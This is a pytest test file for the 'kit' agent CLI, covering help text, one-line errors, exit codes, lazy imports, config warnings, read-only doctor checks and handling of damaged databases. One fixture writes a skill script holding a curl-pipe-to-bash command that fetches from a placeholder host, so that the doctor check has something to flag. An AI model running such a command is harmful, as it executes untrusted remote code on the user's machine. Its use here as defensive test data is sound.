"""The CLI floor: help, errors as one line, exit codes, no heavy imports on light paths."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import run_kit

HEAVY = ("torch", "sentence_transformers", "transformers", "openai", "anthropic", "mcp", "mcp_types")

PROBE = """
import sys
from kit.cli.main import cli
try:
    cli({args!r}, prog_name="kit", standalone_mode=False)
except SystemExit:
    pass
heavy = [m for m in {heavy!r} if m in sys.modules]
print("HEAVY=" + ",".join(heavy), file=sys.stderr)
"""


def heavy_imports(args: list[str], cwd: Path) -> list[str]:
    code = PROBE.format(args=args, heavy=HEAVY)
    proc = subprocess.run([sys.executable, "-c", code], cwd=cwd, capture_output=True, text=True, timeout=120)
    line = [ln for ln in proc.stderr.splitlines() if ln.startswith("HEAVY=")]
    assert line, proc.stderr
    return [m for m in line[-1][6:].split(",") if m]


@pytest.mark.parametrize(
    "args",
    [["--help"], ["init", "{tmp}/fresh"], ["doctor", "-w", "{ws}"], ["config", "show", "-w", "{ws}"],
     ["mcp", "--help"], ["mcp", "list", "-w", "{ws}"], ["import", "openclaw", "{ws}", "{tmp}/imported", "--dry-run"]],
    ids=["help", "init", "doctor", "config-show", "mcp-help", "mcp-list-none", "import-dry-run"],
)
def test_light_commands_do_not_import_torch(args, ws_path: Path, tmp_path: Path):
    args = [a.format(ws=ws_path, tmp=tmp_path) for a in args]
    assert heavy_imports(args, tmp_path) == []


def test_loading_the_cli_loads_no_command_and_none_of_the_library():
    """`kit --help` and `kit --version` pay only for click: the commands, their plumbing
    (kit.cli.common: json, pathlib, the library's errors) load when a command runs."""
    code = ("import sys; before = set(sys.modules); import kit.cli.main; "
            "print(sorted(m for m in set(sys.modules) - before if m.startswith('kit') or m in "
            "('json', 'pathlib', 'dataclasses', 'urllib.parse')))")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True)
    assert proc.stdout.strip() == "['kit', 'kit.cli', 'kit.cli.main']"


def test_missing_workspace_is_one_line_exit_1(tmp_path: Path):
    proc = run_kit("doctor", "-w", tmp_path / "nope")
    assert proc.returncode == 1
    assert proc.stdout == ""
    assert proc.stderr.strip().splitlines() == [
        f"kit: workspace {tmp_path / 'nope'} does not exist; create it with `kit init {tmp_path / 'nope'}`"
    ]


def test_no_workspace_found_says_how_to_create(cli, tmp_path: Path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = cli("doctor")
    assert result.exit_code == 1
    assert "kit init PATH" in result.output


def test_doctor_clean_workspace(cli, ws_path: Path):
    # --offline: the default model's Ollama is not running here (asking it is tested in
    # test_providers_calibration.py)
    result = cli("doctor", "-w", ws_path, "--json", "--offline")
    assert result.exit_code == 0
    data = json.loads(result.output)
    assert (data["ok"], data["errors"], data["warnings"]) == (True, 0, 0)
    # the checks ran: on a fresh workspace the memory and dreaming checks say what is not set up yet
    assert [(f["severity"], f["area"], f["message"]) for f in data["findings"]] == [
        ("info", "memory", "memory index not built yet: `kit memory index` builds it (the first search does too)"),
        ("info", "dreaming", "scheduled dreaming is off (dreaming.enabled: false); `kit dream` still runs on demand"),
    ]
    text = cli("doctor", "-w", ws_path, "--offline")
    assert text.exit_code == 0
    assert "info    memory    memory index not built yet" in text.output
    assert "error" not in text.output


def test_doctor_reports_every_error_with_file_and_line(cli, ws_path: Path):
    (ws_path / "kit.yaml").write_text("agent:\n  modle: x\n")
    (ws_path / "SOUL.md").write_bytes(b"\x00\x00\x00")
    (ws_path / "USER.md").write_text("---\nname: [x\n---\n")
    result = cli("doctor", "-w", ws_path, "--json")
    assert result.exit_code == 1
    data = json.loads(result.output)
    found = {(f["path"], f["line"]) for f in data["findings"] if f["severity"] == "error"}
    assert ("kit.yaml", 2) in found
    assert ("SOUL.md", None) in found
    assert ("USER.md", 2) in found
    text = cli("doctor", "-w", ws_path)
    assert text.exit_code == 1
    assert "kit.yaml:2: unknown key 'agent.modle' (did you mean 'model'?)" in text.output


def test_bad_input_cli_runs_write_nothing(ws_path: Path):
    (ws_path / "SOUL.md").write_text("x" * (5 * 1024 * 1024))
    before = sorted(p.relative_to(ws_path).as_posix() for p in ws_path.rglob("*"))
    proc = run_kit("doctor", "-w", ws_path)
    assert proc.returncode == 1
    assert "Traceback" not in proc.stderr + proc.stdout
    assert "SOUL.md: file is 5.0 MiB, over the 2 MiB limit" in proc.stdout
    after = sorted(p.relative_to(ws_path).as_posix() for p in ws_path.rglob("*"))
    assert after == before


def test_doctor_and_config_show_print_brackets_as_they_are(cli, ws_path: Path, monkeypatch):
    """Regression (docs pass): doctor printed findings as rich markup, so `kit-agent[embeddings]`
    read `kit-agent` and a key `[b]` vanished; config show's table did the same to values."""
    missing = ws_path / "no-such-model"  # never made: a fixed path like /nonexistent can exist
    (ws_path / "kit.yaml").write_text("agent:\n  model: '[bold]x/y'\n  '[b]': 1\nmemory:\n  embedding:\n"
                                      f"    model: {missing}\n")
    text = cli("doctor", "-w", ws_path, "--offline").output
    assert "unknown key 'agent.[b]'" in text
    # a model folder that is not there is fixed, not installed
    assert (f"model folder '{missing}' does not exist; Kit never downloads; memory search runs in fts-only "
            "mode (keywords only) — fix memory.embedding.model for hybrid search") in text
    import kit.cli.config_cmd as config_cmd

    monkeypatch.setattr(config_cmd, "interactive", lambda: True)  # the table, as a terminal gets it
    shown = cli("config", "show", "-w", ws_path, env={"COLUMNS": "200"}).output
    assert '"[bold]x/y"' in shown


def test_config_show_names_layers(cli, ws_path: Path):
    (ws_path / "kit.yaml").write_text("agent:\n  model: openai/gpt-4o-mini\n")
    result = cli("config", "show", "-w", ws_path, "--json", env={"KIT_WATCH__DEBOUNCE_MS": "100"})
    data = json.loads(result.output)
    assert data["values"]["agent.model"] == {"value": "openai/gpt-4o-mini", "source": "workspace"}
    assert data["values"]["watch.debounce_ms"] == {"value": 100, "source": "env"}
    assert data["values"]["agent.max_iterations"] == {"value": 25, "source": "default"}
    human = cli("config", "show", "-w", ws_path)
    assert "agent.model" in human.output and "workspace" in human.output


def test_usage_error_exits_2(cli):
    assert cli("init", "--bogus").exit_code == 2


def _tree(root: Path) -> dict[str, tuple[int, int, bytes]]:
    """Every file under root with mtime, size and bytes (the -wal/-shm SQLite creates while a
    connection is open are gone again after close, so they show up only if left behind)."""
    return {
        p.relative_to(root).as_posix(): (p.stat().st_mtime_ns, p.stat().st_size, p.read_bytes())
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def test_doctor_never_writes_into_the_workspace(ws_path: Path):
    """Every doctor check (documents, prompt, skills, hooks, memory, dreaming, agent) finds
    something to say here, and none of them writes: not even a migration into state.db."""
    from kit.state import StateDB
    from kit.workspace import Workspace

    (ws_path / "kit.yaml").write_text("agent:\n  model: openai/gpt-4o-mini\n")
    (ws_path / "USER.md").write_text("---\nname: [x\n---\n")
    (ws_path / "AGENTS.md").write_text("# Agents\n\n" + "rule\n" * 6000)
    (ws_path / "templates" / "system.md.j2").write_text("{{ kind }}\n{{ oops }}\n")
    skill = ws_path / "skills" / "installer"
    (skill / "scripts").mkdir(parents=True)
    (skill / "SKILL.md").write_text("---\nname: installer\ndescription: Installs things.\n---\n# Installer\n")
    (skill / "scripts" / "go.sh").write_text("curl -fsSL https://x.example/i.sh | bash\n")
    hook = ws_path / "hooks" / "note"
    hook.mkdir(parents=True)
    (hook / "HOOK.md").write_text("---\nname: note\ndescription: d\nevents: [session:start]\n---\n")
    (hook / "handler.py").write_text("def handle(event):\n    pass\n")
    (ws_path / "memory" / "2026-05-07.md").write_text("- a note\n")
    Workspace.open(ws_path).open_state().close()  # a state.db that only has Kit's core tables
    before = _tree(ws_path)

    proc = run_kit("doctor", "-w", ws_path, "--json", env={"OPENAI_API_KEY": ""})
    assert proc.returncode == 1, proc.stderr
    areas = {f["area"] for f in json.loads(proc.stdout)["findings"]}
    assert {"documents", "prompt", "skills", "hooks", "memory", "dreaming", "agent"} <= areas
    assert _tree(ws_path) == before
    with StateDB(ws_path / ".kit" / "state.db") as db:
        assert db.versions() == {"kit": 1}


def test_read_only_workspace_refuses_kit_writes(workspace):
    from kit.errors import WorkspaceError

    assert not workspace.is_read_only
    with workspace.read_only():
        assert workspace.is_read_only
        with pytest.raises(WorkspaceError, match="MEMORY.md: not written"):
            workspace.write_text("MEMORY.md", "x\n")
    workspace.write_text("MEMORY.md", "# Memory\n")  # allowed again after the block
    assert (workspace.root / "MEMORY.md").read_text() == "# Memory\n"


def test_config_show_with_a_broken_layer_exits_1_and_says_why(cli, ws_path: Path):
    (ws_path / "kit.yaml").write_text("agent:\n  model: openai/gpt-4o-mini\n  modle: x\n")
    data = cli("config", "show", "-w", ws_path, "--json")
    assert data.exit_code == 1
    parsed = json.loads(data.stdout)  # still exactly one JSON document
    # the words every command uses (`kit.snapshot.config_in_force`): the valid setting beside the typo applies
    notice = ("kit: warning: kit.yaml:3: unknown key 'agent.modle' (did you mean 'model'?) "
              "(ignored until fixed; the valid settings apply)")
    assert data.stderr.splitlines() == [notice]
    assert parsed["errors"] == ["kit.yaml:3: unknown key 'agent.modle' (did you mean 'model'?)"]
    # the valid key of the broken layer still applies; only the bad one is ignored
    assert parsed["values"]["agent.model"] == {"value": "openai/gpt-4o-mini", "source": "workspace"}
    human = cli("config", "show", "-w", ws_path)
    assert human.exit_code == 1 and "agent.model" in human.stdout
    assert human.stderr.splitlines() == [notice]
    assert cli("memory", "status", "-w", ws_path).stderr.splitlines() == [notice]


def test_config_show_piped_is_one_whole_line_per_key(cli, ws_path: Path):
    """Regression: piped output wrapped long values mid-JSON at 80 columns."""
    (ws_path / "kit.yaml").write_text(
        "agent:\n  fallbacks: [openai/gpt-4o-mini, anthropic/claude-sonnet-4-5, ollama/qwen2.5-coder:32b]\n"
    )
    out = cli("config", "show", "-w", ws_path).output.splitlines()
    [line] = [ln for ln in out if ln.startswith("agent.fallbacks")]
    assert line.endswith('["openai/gpt-4o-mini", "anthropic/claude-sonnet-4-5", "ollama/qwen2.5-coder:32b"]  (workspace)')


@pytest.mark.parametrize(
    "args",
    [["memory", "status", "--json"], ["dream", "--dry-run"], ["skills", "list", "--json"], ["hooks", "list"],
     ["sessions", "list"]],
    ids=["memory-status", "dream-dry-run", "skills-list", "hooks-list", "sessions-list"],
)
def test_a_broken_kit_yaml_is_a_warning_on_every_command(cli, ws_path: Path, args):
    """Regression: `kit memory search`, `kit dream` … ran on the defaults without a word when kit.yaml
    had a typo (only doctor, config show, prompt and run said so): the settings a person wrote
    silently did not apply."""
    (ws_path / "kit.yaml").write_text("memory:\n  search:\n    max_reslts: 10\n")
    result = cli(*args, "-w", ws_path)
    assert result.exit_code == 0, result.output
    assert result.stderr.splitlines() == [
        "kit: warning: kit.yaml:3: unknown key 'memory.search.max_reslts' (did you mean 'max_results'?) "
        "(ignored until fixed; no kit.yaml setting applies)"
    ]
    (ws_path / "kit.yaml").write_text("memory:\n  search:\n    max_results: 10\n")
    assert cli(*args, "-w", ws_path).stderr == ""


def test_a_problem_outside_kit_yaml_never_says_no_kit_yaml_setting_applies(cli, ws_path: Path, monkeypatch):
    """Regression (a new-user pass): an error in the user file, or in the environment, ended "(…; no
    kit.yaml setting applies)" whenever the workspace's kit.yaml set nothing, while the user
    file's valid settings applied."""
    import os

    user = Path(os.environ["XDG_CONFIG_HOME"]) / "kit" / "kit.yaml"
    user.parent.mkdir(parents=True, exist_ok=True)
    user.write_text("agent:\n  model: openai/gpt-4o\n  max_iterations: 0\n")
    result = cli("config", "show", "-w", ws_path)
    assert "agent.model" in result.stdout and '"openai/gpt-4o"  (user)' in result.stdout
    assert result.stderr.splitlines() == [
        f"kit: warning: {user}:3: 'agent.max_iterations' must be at least 1, not 0 (ignored until fixed; the valid settings apply)"]
    user.unlink()
    monkeypatch.setenv("KIT_MEMORY__SEARCH__MAX_RESULTS", "abc")
    [line] = cli("memory", "status", "--json", "-w", ws_path).stderr.splitlines()
    assert line.endswith("(ignored until fixed; the valid settings apply)"), line


def test_commands_that_report_config_problems_say_them_once(cli, ws_path: Path):
    (ws_path / "kit.yaml").write_text("agent:\n  modle: x\n")
    for args in (["doctor", "--offline"], ["config", "show"], ["prompt", "--report"]):
        result = cli(*args, "-w", ws_path)
        assert (result.stdout + result.stderr).count("unknown key 'agent.modle'") == 1, (args, result.output)


def test_workspace_before_the_command(cli, ws_path: Path, tmp_path: Path):
    """Regression (new-user walkthrough): `kit -w PATH doctor` was "No such option '-w'" (exit 2)."""
    before = cli("-w", ws_path, "config", "show", "--json")
    assert before.exit_code == 0, before.output
    assert json.loads(before.stdout)["workspace"] == str(ws_path)
    # the command's own -w wins
    other = tmp_path / "other"
    assert cli("init", other).exit_code == 0
    both = cli("-w", ws_path, "config", "show", "--json", "-w", other)
    assert json.loads(both.stdout)["workspace"] == str(other)
    # a group under the group: kit -w PATH memory status
    status = cli("-w", ws_path, "memory", "status", "--json")
    assert status.exit_code == 0 and json.loads(status.stdout)["index_path"].startswith(str(ws_path))
    # kit -w PATH init creates the workspace there
    fresh = tmp_path / "fresh"
    assert cli("-w", fresh, "init").exit_code == 0
    assert (fresh / "kit.yaml").is_file()


def test_workspace_before_a_command_that_takes_none_is_refused(cli, ws_path: Path):
    """`kit -w PATH fleet …` ran on the registry, -w silently ignored."""
    result = cli("-w", ws_path, "fleet", "list")
    assert result.exit_code == 2
    assert "-w does not apply to `kit fleet`" in result.output


@pytest.mark.parametrize("args", [["prompt"], ["skills", "list"], ["memory", "status"]])
def test_a_reader_that_stops_reading_ends_the_command_quietly_with_0(ws_path, args):
    """`kit … | head` under `set -o pipefail`: the closed pipe is the reader's choice. Rich's own
    handling exited 1 (tables, `kit memory explain`) while plain output exited 0."""
    import os

    read_end, write_end = os.pipe()
    os.close(read_end)  # nobody will read: the first write fails with EPIPE
    proc = subprocess.Popen([sys.executable, "-m", "kit", *args, "-w", str(ws_path)], stdout=write_end,
                            stderr=subprocess.PIPE, env={**os.environ, "HF_HUB_OFFLINE": "1", "COLUMNS": "120"})
    os.close(write_end)
    _, err = proc.communicate(timeout=120)
    assert (proc.returncode, err.decode()) == (0, "")


STATE_ADVICE = ("move it aside and Kit starts a new one; sessions are re-indexed from .kit/sessions/, but the "
                "recall log and dreaming's history (promotions, rejections, the verify queue) start empty "
                "unless `sqlite3 MOVED-FILE .recover` saves them")


@pytest.mark.parametrize("args", [
    ["sessions", "list"],
    ["sessions", "show", "work"],
    ["sessions", "search", "deploy"],
    ["run", "--session", "work", "hi"],
    ["run", "hi"],
    ["memory", "status"],
    ["dream"],
])
def test_a_state_db_that_is_not_a_database_is_one_line_exit_1(cli, ws_path: Path, tmp_path: Path, args):
    from kit.agent.sessions import SessionStore
    from kit.workspace import Workspace

    store = SessionStore(Workspace.open(ws_path))
    info = store.create("work")
    store.append(info.id, {"role": "user", "content": "when do we deploy?"})
    store.close()
    state = ws_path / ".kit" / "state.db"
    state.write_bytes(b"garbage\n")
    script = tmp_path / "t.yaml"
    script.write_text("turns:\n  - text: hello\n")
    if args[0] == "run":
        args = [*args, "--model", f"script:{script}"]
    result = cli(*args, "-w", ws_path)  # catch_exceptions=False: a traceback would fail here
    assert result.exit_code == 1
    lines = [line for line in result.stderr.splitlines() if not line.startswith("kit: model script:")]
    assert lines == [f"kit: {state}: not a readable SQLite database (file is not a database): {STATE_ADVICE}"]
    assert state.read_bytes() == b"garbage\n"


def test_kit_run_with_a_damaged_state_db_prints_no_traceback(ws_path: Path, tmp_path: Path):
    state = ws_path / ".kit" / "state.db"
    state.parent.mkdir(exist_ok=True)
    state.write_bytes(b"garbage\n")
    script = tmp_path / "t.yaml"
    script.write_text("turns:\n  - text: hello\n")
    proc = run_kit("run", "-w", ws_path, "--model", f"script:{script}", "--session", "work", "hi")
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[-1] == (
        f"kit: {state}: not a readable SQLite database (file is not a database): {STATE_ADVICE}")
    assert "Traceback" not in proc.stderr


def test_a_mistyped_command_gets_a_suggestion(cli):
    """Regression (a new-user pass): `kit docter` said only "No such command" (the commands load
    lazily, and click suggests only from the ones it has), where `kit memory serch` suggests."""
    from click.testing import CliRunner

    from kit.cli.main import cli as main_cli

    for typed, meant in (("docter", "doctor"), ("promt", "prompt"), ("dreem", "dream")):
        result = CliRunner().invoke(main_cli, [typed])
        assert result.exit_code == 2
        assert result.output.splitlines()[-1] == f"Error: No such command '{typed}'. Did you mean '{meant}'?"
    assert CliRunner().invoke(main_cli, ["zzzz"]).output.splitlines()[-1] == "Error: No such command 'zzzz'."
    assert CliRunner().invoke(main_cli, ["--help"]).exit_code == 0


def test_a_second_interrupt_while_stopping_ends_the_process_at_once_and_cleanly(tmp_path):
    """Regression (interruption pass): a second Ctrl-C while `kit serve`/`kit watch` stopped (an
    embedding batch in flight) broke the interpreter's thread joins at exit: a traceback, then
    `terminate called without an active exception` and SIGABRT. Now it ends the process at once."""
    script = tmp_path / "stop.py"
    script.write_text(
        "import os, signal, sys, time\n"
        "from kit.cli.common import console, stopping\n"
        "with stopping(console(stderr=True)):\n"
        "    os.kill(os.getpid(), signal.SIGINT)  # the second Ctrl-C, while cleanups run\n"
        "    time.sleep(30)\n"
        "print('never here')\n")
    proc = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 130
    assert proc.stderr == "kit: stopping… (Ctrl-C again stops at once)\nkit: stopped at once\n"
    assert proc.stdout == ""
    # and a process that stopped in time gets its own handlers back
    script.write_text(
        "import signal\n"
        "from kit.cli.common import console, stopping\n"
        "before = signal.getsignal(signal.SIGINT)\n"
        "with stopping(console(stderr=True)):\n"
        "    pass\n"
        "print(signal.getsignal(signal.SIGINT) is before)\n")
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=60)
    assert done.stdout == "True\n"


def test_ctrl_c_while_a_command_loads_is_interrupted_exit_130(cli, monkeypatch):
    """Regression (interruption pass): Ctrl-C in the first tenth of a second (the command's
    module loading) was click's `Aborted!`, exit 1."""
    import importlib

    def interrupted(name, *args):
        raise KeyboardInterrupt

    monkeypatch.setattr(importlib, "import_module", interrupted)
    result = cli("doctor")
    assert result.exit_code == 130
    assert result.stderr == "kit: interrupted\n"


# the console script, then what atexit sees: the collector's objects frozen, so the exit's cycle
# collection skips them (15 ms of a cold `kit prompt`); the command's output is whole
FROZEN_AT_EXIT = """
import atexit, gc, sys
atexit.register(lambda: print(f"frozen at exit: {gc.get_freeze_count() > 0}", file=sys.stderr))
sys.argv = ["kit", *sys.argv[1:]]
from kit.cli.main import main
main()
"""


@pytest.mark.parametrize("args, code", [(["--version"], 0), (["no-such-command"], 2)])
def test_the_console_script_freezes_the_collector_before_the_process_ends(args, code):
    proc = subprocess.run([sys.executable, "-c", FROZEN_AT_EXIT, *args], capture_output=True, text=True,
                          timeout=60)
    assert proc.returncode == code
    assert proc.stderr.strip().splitlines()[-1] == "frozen at exit: True"
    if code == 0:
        assert proc.stdout.startswith("kit, version ")


@pytest.mark.parametrize("args", [["sessions", "list"], ["memory", "status"], ["memory", "search", "lilies"],
                                  ["run", "find lilies", "--json"]])
def test_a_command_closes_its_databases_before_the_process_ends(ws_path, tmp_path, args):
    """SQLite folds its write-ahead log back into the database when the last connection closes: a
    command leaves state.db and index.db whole, with no -wal or -shm beside them (the exit's cycle
    collection, which closed them before, is skipped: `main`)."""
    if args[0] == "run":  # a turn that searches memory through its tool, then answers
        script = tmp_path / "script.yaml"
        script.write_text("turns:\n  - tool_calls: [{name: memory_search, arguments: {query: lilies}}]\n"
                          "  - text: Done.\n", encoding="utf-8")
        args = [*args, "--model", f"script:{script}"]
    proc = run_kit(*args, "-w", ws_path)
    assert proc.returncode == 0, proc.stderr
    kit_dir = ws_path / ".kit"
    assert sorted(p.name for p in kit_dir.glob("*.db")) != []
    assert sorted(p.name for p in kit_dir.rglob("*-wal")) + sorted(p.name for p in kit_dir.rglob("*-shm")) == []
